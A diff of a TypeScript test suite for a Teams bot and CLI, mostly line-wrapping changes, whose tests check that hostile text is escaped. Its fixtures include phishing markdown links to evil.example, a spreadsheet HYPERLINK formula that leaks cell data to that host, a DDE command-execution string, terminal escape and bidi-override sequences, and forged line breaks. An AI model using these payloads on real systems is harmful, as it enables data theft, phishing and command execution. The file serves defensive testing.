@@ -40,7 +40,18 @@ const HIDDEN_CONTROLS = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u2
 const action = (overrides: Partial<Action> = {}): Action =>
   actionDoc({
     id: 'action-plan-abc',
-    history: [{ id: 'h1', at: '2026-11-20T10:00:00Z', by: { personId: 'val', name: 'Val Johnson' }, source: 'teams', fromVersion: 2, previousStatus: 'G', status: 'A', progress: 'Delayed' }],
+    history: [
+      {
+        id: 'h1',
+        at: '2026-11-20T10:00:00Z',
+        by: { personId: 'val', name: 'Val Johnson' },
+        source: 'teams',
+        fromVersion: 2,
+        previousStatus: 'G',
+        status: 'A',
+        progress: 'Delayed',
+      },
+    ],
     version: 3,
     ...overrides,
   });
@@ -51,7 +62,14 @@ function digest(lines: number, line: { description?: string; leadName?: string }
     heading: 'Actions due soon',
     intro: 'These actions are due soon.',
     snoozeChoices: [1, 3, 7],
-    lines: Array.from({ length: lines }, (_, i) => ({ actionId: `a${i}`, ref: `LP1.${i + 1}`, description: line.description ?? 'Deliver training.', why: 'due in 5 working days', status: 'A', ...(line.leadName ? { leadName: line.leadName } : {}) })),
+    lines: Array.from({ length: lines }, (_, i) => ({
+      actionId: `a${i}`,
+      ref: `LP1.${i + 1}`,
+      description: line.description ?? 'Deliver training.',
+      why: 'due in 5 working days',
+      status: 'A',
+      ...(line.leadName ? { leadName: line.leadName } : {}),
+    })),
   };
 }
 
@@ -98,7 +116,16 @@ describe('hostile text on cards', () => {
 
     it('a round summary listing many leads with the longest names stays under the limit', () => {
       const names = Array.from({ length: 60 }, (_, i) => `${i} ${LONGEST_CELL}`);
-      const card = renderMessage({ kind: 'round-summary', roundId: 'r1', heading: 'Update round', dueBy: '2026-12-04', responded: names, outstanding: names, unreachable: names, asAt: '2026-11-29T09:00:00Z' });
+      const card = renderMessage({
+        kind: 'round-summary',
+        roundId: 'r1',
+        heading: 'Update round',
+        dueBy: '2026-12-04',
+        responded: names,
+        outstanding: names,
+        unreachable: names,
+        asAt: '2026-11-29T09:00:00Z',
+      });
       expect(bytes(card)).toBeLessThan(TEAMS_MESSAGE_LIMIT);
     });
 
@@ -117,7 +144,23 @@ describe('hostile text on cards', () => {
     });
 
     it('the name of whoever updated an action stays on one line of the summary heading', () => {
-      const card = summaryCard(action({ history: [{ id: 'h1', at: '2026-11-20T10:00:00Z', by: { personId: 'p9', name: 'Val Johnson\r\nApproved by the Director of Children’s Services' }, source: 'teams', fromVersion: 2, previousStatus: 'G', status: 'B', progress: 'Done' }] }), { timeZone: 'Europe/London', canUpdate: false });
+      const card = summaryCard(
+        action({
+          history: [
+            {
+              id: 'h1',
+              at: '2026-11-20T10:00:00Z',
+              by: { personId: 'p9', name: 'Val Johnson\r\nApproved by the Director of Children’s Services' },
+              source: 'teams',
+              fromVersion: 2,
+              previousStatus: 'G',
+              status: 'B',
+              progress: 'Done',
+            },
+          ],
+        }),
+        { timeZone: 'Europe/London', canUpdate: false },
+      );
       expect(strings(card).find((s) => s.startsWith('Updated to'))).not.toMatch(/[\r\n]/);
     });
 
@@ -125,7 +168,10 @@ describe('hostile text on cards', () => {
       const reversed = 'Val \u202enosnhoJ\u202c';
       const cards = [
         renderMessage(digest(1, { description: `Deliver \u2066training\u2069 \u001b[2J`, leadName: reversed })),
-        summaryCard(action({ leads: [{ name: reversed, personId: 'p1' }], progress: 'Done \u202ereviewed\u202c' }), { timeZone: 'Europe/London', canUpdate: true }),
+        summaryCard(action({ leads: [{ name: reversed, personId: 'p1' }], progress: 'Done \u202ereviewed\u202c' }), {
+          timeZone: 'Europe/London',
+          canUpdate: true,
+        }),
         welcomeCard(reversed, true, 0),
       ];
       for (const card of cards) expect(strings(card).filter((s) => HIDDEN_CONTROLS.test(s))).toEqual([]);
@@ -146,13 +192,29 @@ describe('hostile text on cards', () => {
   });
 
   describe('markdown from a person or a file is shown, not obeyed (regression)', () => {
-    const attacks = ['[Reset your password](https://evil.example/login)', '![](https://evil.example/pixel.gif)', '<at>Director</at>', '<https://evil.example>', '**URGENT** _from the Director_'];
+    const attacks = [
+      '[Reset your password](https://evil.example/login)',
+      '![](https://evil.example/pixel.gif)',
+      '<at>Director</at>',
+      '<https://evil.example>',
+      '**URGENT** _from the Director_',
+    ];
 
     it.each(attacks)('%s in a lead’s name, an escalation heading, fact and note, and a report cell is escaped wherever markdown renders', (attack) => {
       const cards = [
         summaryCard(action({ leads: [{ name: attack, personId: 'p1' }] }), { timeZone: 'Europe/London', canUpdate: true }),
         renderMessage(digest(1, { leadName: attack })),
-        renderMessage({ kind: 'escalation-alert', escalationId: 'e1', heading: `Escalation ${attack}`, role: 'act', stage: 'Stage 1', deadline: '2026-12-01', summary: attack, facts: [{ title: 'Raised by', value: attack }], note: attack }),
+        renderMessage({
+          kind: 'escalation-alert',
+          escalationId: 'e1',
+          heading: `Escalation ${attack}`,
+          role: 'act',
+          stage: 'Stage 1',
+          deadline: '2026-12-01',
+          summary: attack,
+          facts: [{ title: 'Raised by', value: attack }],
+          note: attack,
+        }),
         reportCard({ title: attack, headers: ['Name'], rows: [[attack]], notes: [attack] }),
       ];
       for (const card of cards) {
@@ -173,7 +235,14 @@ describe('hostile text on cards', () => {
 
     it('an agency name with terminal escapes and a line break cannot clear the screen or forge a line of output', async () => {
       // ESC[2J clears the terminal; the line break would print a fake confirmation on its own line.
-      const added = await cli(dataDir, 'agency', 'add', 'Thames Valley Police\u001b[2J\u001b[H\nRemoved every agency and tenant.', '--tenant', '11111111-2222-3333-4444-555555555555');
+      const added = await cli(
+        dataDir,
+        'agency',
+        'add',
+        'Thames Valley Police\u001b[2J\u001b[H\nRemoved every agency and tenant.',
+        '--tenant',
+        '11111111-2222-3333-4444-555555555555',
+      );
       const listed = await cli(dataDir, 'agency', 'list');
       for (const { out } of [added, listed]) {
         expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
@@ -187,7 +256,20 @@ describe('hostile text on cards', () => {
       const forged = 'Eve"  last tried 2026-11-29T09:00:00Z  (not linked)\naad-val  tenant council-tenant  "Val Johnson';
       const { store } = await openPersistentTestStore(dataDir);
       try {
-        const record: ConversationRecord = { id: 'personal-aad-eve', orgId: 'demo', kind: 'personal', tenantId: 'partner-tenant', conversationId: 'a:eve', serviceUrl: 'https://smba.trafficmanager.net/uk/', botId: '28:bot', user: { aadObjectId: 'aad-eve', teamsUserId: '29:eve', name: forged }, unlinked: { firstTriedAt: '2026-11-29T08:00:00Z', lastTriedAt: '2026-11-29T08:00:00Z', reason: 'not in the directory' }, reachable: true, installedAt: '2026-11-29T08:00:00Z', updatedAt: '2026-11-29T08:00:00Z' };
+        const record: ConversationRecord = {
+          id: 'personal-aad-eve',
+          orgId: 'demo',
+          kind: 'personal',
+          tenantId: 'partner-tenant',
+          conversationId: 'a:eve',
+          serviceUrl: 'https://smba.trafficmanager.net/uk/',
+          botId: '28:bot',
+          user: { aadObjectId: 'aad-eve', teamsUserId: '29:eve', name: forged },
+          unlinked: { firstTriedAt: '2026-11-29T08:00:00Z', lastTriedAt: '2026-11-29T08:00:00Z', reason: 'not in the directory' },
+          reachable: true,
+          installedAt: '2026-11-29T08:00:00Z',
+          updatedAt: '2026-11-29T08:00:00Z',
+        };
         await store.collection<ConversationRecord>('conversations').upsert(record);
       } finally {
         await store.close();
@@ -196,7 +278,9 @@ describe('hostile text on cards', () => {
       const rows = out.trim().split('\n');
       expect(rows).toHaveLength(1);
       // The name is quoted so that a quote inside it cannot end it: everything the attacker typed stays inside.
-      expect(rows[0]).toMatch(/^aad-eve  tenant partner-tenant  "Eve\\"  last tried .*Val Johnson"  last tried 2026-11-29T08:00:00Z  \(not in the directory\)$/);
+      expect(rows[0]).toMatch(
+        /^aad-eve  tenant partner-tenant  "Eve\\"  last tried .*Val Johnson"  last tried 2026-11-29T08:00:00Z  \(not in the directory\)$/,
+      );
     });
 
     it('a campaign named to climb out of the working folder writes no file anywhere (regression)', async () => {
@@ -218,8 +302,22 @@ describe('hostile text on cards', () => {
     const PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A2,"Click for your certificate")';
     // An agency named by its own administrator, as the partnership report has it: section title, header and cell.
     const sections: Report[] = [
-      { title: PAYLOAD, headers: ['Agency', '+Staff'], rows: [[PAYLOAD, 12], ['@SUM(1+1)*cmd|"/c calc"!A0', 3]] },
-      { title: 'Escalations', headers: ['Agency', 'Open'], rows: [['\t=1+1', 0], ['-2+3', 1]] },
+      {
+        title: PAYLOAD,
+        headers: ['Agency', '+Staff'],
+        rows: [
+          [PAYLOAD, 12],
+          ['@SUM(1+1)*cmd|"/c calc"!A0', 3],
+        ],
+      },
+      {
+        title: 'Escalations',
+        headers: ['Agency', 'Open'],
+        rows: [
+          ['\t=1+1', 0],
+          ['-2+3', 1],
+        ],
+      },
     ];
     let dir: string;
     beforeAll(async () => {
@@ -249,14 +347,23 @@ describe('hostile text on cards', () => {
 
   describe('a partner agency’s people file', () => {
     const HEADERS = ['Employee Number', 'Full Name', 'Work Email', 'Department', 'Job Title', 'Manager Employee Number', 'Status'];
-    const table = (rows: string[][]): Table => ({ headers: HEADERS, rows: rows.map((r, i) => ({ rowNumber: i + 2, cells: Object.fromEntries(HEADERS.map((h, j) => [h, r[j] ?? ''])) })) });
+    const table = (rows: string[][]): Table => ({
+      headers: HEADERS,
+      rows: rows.map((r, i) => ({ rowNumber: i + 2, cells: Object.fromEntries(HEADERS.map((h, j) => [h, r[j] ?? ''])) })),
+    });
 
     it('stores a name, department and job title as one line of visible text, so no output can be handed a forged line', async () => {
       const store = await openTestStore();
       try {
         const summary = await importPeople(
           { store, clock: new FixedClock('2026-11-29T09:00:00Z') },
-          { orgId: ORG, table: table([['7', 'Sam Smith\r\nDirector of Children’s Services', 'sam@police.example', 'Housing\u202e', 'Officer\n(verified by the council)', '', 'Active']]), dryRun: false },
+          {
+            orgId: ORG,
+            table: table([
+              ['7', 'Sam Smith\r\nDirector of Children’s Services', 'sam@police.example', 'Housing\u202e', 'Officer\n(verified by the council)', '', 'Active'],
+            ]),
+            dryRun: false,
+          },
         );
         expect(summary).toMatchObject({ created: 1, problems: [] });
         const [sam] = await new Directory(store).all({ orgId: ORG });
